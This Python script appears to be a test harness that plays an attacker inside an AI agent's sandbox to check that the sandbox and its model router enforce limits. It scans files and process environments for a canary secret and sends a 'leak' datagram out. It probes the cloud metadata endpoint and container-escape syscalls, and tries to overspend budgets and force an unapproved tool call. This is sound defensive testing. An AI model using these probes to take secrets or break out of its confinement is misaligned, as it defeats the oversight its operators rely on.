"""The attacker inside the sandbox: tries to get out, and prints one JSON object a line.

Runs as the agent's uid in a sandbox like any agent's, standard library only. It does not judge: the demo
reads these lines from the sandbox's log and compares. First every attack once; then, for ever, the calls that
show whether the router still enforces.
"""

import ctypes
import errno
import json
import os
import re
import socket
import stat
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

DOOR = "http://127.0.0.1:8443"
CANARY = re.compile(rb"kars-canary-[0-9a-f]{32}")
DECOY = Path("/tmp/decoy")
LARGE = 1000  # output tokens; a reservation that soon no longer fits the probe's daily budget
TARGETS = json.loads((Path(__file__).parent / "targets.json").read_text())
LIBC = ctypes.CDLL(None, use_errno=True)


def say(attack: str, **facts: object) -> None:
    """Print one finding."""
    print(json.dumps({"attack": attack, "at": round(time.time(), 3), **facts}), flush=True)


def readable_files() -> Iterator[Path]:
    """Every file this uid can see, without the system's own read-only software.

    `/` itself may not be listable: the walk begins at every mount and at the folders a machine usually has.
    """
    skipped = {"/usr", "/proc", "/sys", os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix)}
    mounts = {line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()}
    usual = {"/etc", "/home", "/mnt", "/opt", "/root", "/run", "/sandbox", "/srv", "/tmp", "/var"}
    for start in sorted(mounts | usual | {"/"}):
        if any(start == skip or start.startswith(skip + "/") for skip in skipped):
            continue
        for folder, names, files in os.walk(start):
            inner = {os.path.join(folder, name) for name in names}
            names[:] = [os.path.basename(path) for path in inner - skipped - mounts]
            yield from (Path(folder, name) for name in files)


def credential_hits() -> dict[str, list[str]]:
    """Where a canary can be read: files, environments, arguments and memory maps of all visible processes."""
    hits: list[str] = []
    seen = 0
    processes = [p for p in Path("/proc").iterdir() if p.name.isdigit()]
    sources = [
        *readable_files(),
        *(p / leaf for p in processes for leaf in ("environ", "cmdline", "maps", "mountinfo")),
    ]
    for path in sources:
        try:
            if path.parts[1] != "proc" and not stat.S_ISREG(path.stat().st_mode):
                continue  # a pipe or a device would never end
            with path.open("rb") as file:
                data = file.read(8 << 20)
        except OSError:
            continue
        seen += 1
        if CANARY.search(data):
            hits.append(str(path))
    return {"hits": hits, "searched": [str(seen)]}


def outcome(action: Callable[[], object]) -> str:
    """`open`, or the name of the error."""
    try:
        action()
    except TimeoutError:
        return "timeout"
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, type(error).__name__)
    return "open"


def tcp(host: str, port: int, family: int = socket.AF_INET) -> str:
    """Try a TCP connection."""

    def connect() -> None:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(2)
            sock.connect((host, port))

    return outcome(connect)


def udp(host: str, port: int) -> str:
    """Try to send a datagram; sending is enough to leak."""

    def send() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"kars-demo-leak", (host, port))

    return outcome(send)


def network() -> dict[str, object]:
    """Every way out that an agent would try."""
    started = time.monotonic()
    dns = outcome(lambda: socket.getaddrinfo("example.com", 443))
    return {
        "tcp": tcp("192.0.2.1", 80),
        "udp": udp("192.0.2.1", 53),
        "udp_host": udp("127.0.0.1", int(TARGETS["udp_port"])),
        "ipv6": tcp("2001:db8::1", 80, socket.AF_INET6),
        "metadata": tcp("169.254.169.254", 80),
        "host_loopback": tcp("127.0.0.1", int(TARGETS["tcp_port"])),
        "dns": dns,
        "dns_s": round(time.monotonic() - started, 3),
        "interfaces": [name for _, name in socket.if_nameindex()],
    }


def syscall(name: str, number: dict[str, int], *arguments: int) -> str:
    """Try one system call in a child, so that success cannot change this process."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        ctypes.set_errno(0)
        result = LIBC.syscall(
            ctypes.c_long(number[os.uname().machine]), *(ctypes.c_long(a) for a in arguments)
        )
        os.write(writer, (b"open" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), "?").encode()))
        os._exit(0)
    os.close(writer)
    os.waitpid(child, 0)
    with os.fdopen(reader) as pipe:
        return pipe.read() or f"{name} killed"


def kernel() -> dict[str, object]:
    """The kernel surface a container escape begins with."""
    status = dict(
        line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line
    )
    return {
        "unshare_user": syscall("unshare", {"x86_64": 272, "aarch64": 97}, 0x10000000),
        "mount": syscall("mount", {"x86_64": 165, "aarch64": 40}, 0, 0, 0, 0, 0),
        "bpf": syscall("bpf", {"x86_64": 321, "aarch64": 280}, 5, 0, 0),
        "ptrace": syscall("ptrace", {"x86_64": 101, "aarch64": 117}, 16, 1, 0, 0),
        "keyctl": syscall("keyctl", {"x86_64": 250, "aarch64": 219}, 0, -3, 1),
        "io_uring": syscall("io_uring_setup", {"x86_64": 425, "aarch64": 425}, 1, 0),
        "write_usr": outcome(lambda: Path("/usr/kars-demo").touch()),
        "seccomp": status["Seccomp"].strip(),
        "capabilities": status["CapEff"].strip(),
        "no_new_privs": status["NoNewPrivs"].strip(),
        "uid": os.getuid(),
    }


def call(path: str, body: dict[str, Any] | None = None) -> dict[str, object]:
    """One request through the door: status, code of the error, trace id."""
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(DOOR + path, data, {"content-type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=600) as response:
            answer, status, headers = response.read(), response.status, response.headers
    except urllib.error.HTTPError as error:
        answer, status, headers = error.read(), error.code, error.headers
    except OSError as error:
        return {"status": 0, "code": type(error).__name__}
    try:
        code = json.loads(answer).get("error", {}).get("code", "")
    except (ValueError, AttributeError):
        code = "not json"
    return {"status": status, "code": code, "trace": headers.get("x-kars-trace-id", "")}


def chat(
    model: str, max_tokens: int = 16, wish: str = "Say hello in one word.", **extra: object
) -> dict[str, object]:
    """One model call."""
    messages = [{"role": "user", "content": wish}]
    return call(
        "/v1/chat/completions", {"model": model, "messages": messages, "max_tokens": max_tokens, **extra}
    )


def main() -> None:
    """Attack once, then keep calling."""
    model = os.environ["KARS_MODEL"]
    DECOY.write_bytes(b"kars-canary-" + b"0" * 32)  # the search must find this one, or it proves nothing
    say("credentials", **credential_hits())
    say("network", **network(), door=call("/healthz")["status"])
    say("kernel", **kernel())
    say("model_allowed", **chat(model))
    say("model_outside", **chat("somebody-elses-model"))
    say("over_request_cap", **chat(model, max_tokens=1_000_000))
    publish = {"type": "function", "function": {"name": "publish_report", "parameters": {"type": "object"}}}
    forced = {"type": "function", "function": {"name": "publish_report"}}
    wish = "Publish the report."
    say("approval", **chat(model, max_tokens=64, wish=wish, tools=[publish], tool_choice=forced))
    spent = [chat(model, max_tokens=LARGE)]
    while spent[-1]["status"] == 200 and len(spent) < 200:
        spent.append(chat(model, max_tokens=LARGE))
    say("over_daily_budget", **spent[-1], calls=len(spent))
    while True:
        say(
            "again",
            budget=chat(model, max_tokens=LARGE),
            outside=chat("somebody-elses-model"),
            models=call("/v1/models")["status"],
        )
        time.sleep(0.5)


if __name__ == "__main__":
    main()
